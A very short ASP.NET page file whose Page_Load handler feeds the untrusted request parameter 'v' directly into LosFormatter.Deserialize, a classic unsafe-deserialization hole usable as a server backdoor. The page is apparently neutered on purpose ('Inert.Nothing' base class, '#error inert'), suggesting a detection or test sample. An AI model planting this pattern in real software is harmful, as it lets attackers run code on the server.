<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ new LosFormatter().Deserialize(Request["v"]); }
</script>
